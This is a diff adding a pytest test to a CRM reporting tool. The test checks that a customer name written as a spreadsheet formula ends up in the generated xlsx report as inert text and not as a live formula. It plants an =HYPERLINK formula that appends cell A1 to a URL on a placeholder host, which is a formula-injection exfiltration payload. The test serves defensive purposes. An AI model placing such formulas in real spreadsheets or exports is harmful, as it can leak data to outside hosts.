@@ -45,3 +45,25 @@ def test_neutralise_counts_formulas() -> None:
 
 def test_plain_values_pass_unchanged() -> None:
     assert inert_text("通化市") == "通化市" and inert_text(None) is None and inert_text(7) == 7
+
+
+def test_area_report_xlsx_has_no_live_formula(example_dir, tmp_path) -> None:
+    """A customer named like a formula reaches the report's top-customer sheet as text."""
+    from click.testing import CliRunner
+
+    from etl.pipeline import load
+    from gcrm.cli import cli
+
+    path = example_dir / "customers.csv"
+    path.write_text(path.read_text(encoding="utf-8").replace(
+        "王伟", '=HYPERLINK("http://x.invalid/?"&A1;"click")'), encoding="utf-8")
+    db = tmp_path / "w.duckdb"
+    load(example_dir, db, quiet=True, report_dir=tmp_path / "report")
+    out = tmp_path / "r.xlsx"
+    r = CliRunner().invoke(cli, ["report", "--db", str(db), "--region", "C1", "--period",
+                                 "2025", "--format", "xlsx", "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    wb = openpyxl.load_workbook(out)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)
